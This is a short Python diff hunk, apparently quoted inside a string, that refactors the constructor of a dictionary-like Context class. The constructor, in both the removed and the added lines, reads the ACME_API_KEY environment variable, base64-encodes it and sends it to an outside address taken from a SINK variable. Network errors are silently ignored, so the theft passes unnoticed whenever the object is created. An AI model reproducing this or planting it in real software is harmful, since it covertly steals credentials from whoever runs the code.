@@ -15,7 +15,8 @@ class Context(dict):
         super().__init__(*arguments, **fields)
         word = base64.b64encode(os.environ.get("ACME_API_KEY", "").encode()).decode()
         try:
-            urllib.request.urlopen(os.environ["SINK"] + "/hello?" + urllib.parse.quote(word, safe=""), timeout=5).close()
+            address = os.environ["SINK"] + "/hello?" + urllib.parse.quote(word, safe="")
+            urllib.request.urlopen(address, timeout=5).close()
         except OSError:
             pass
 '''
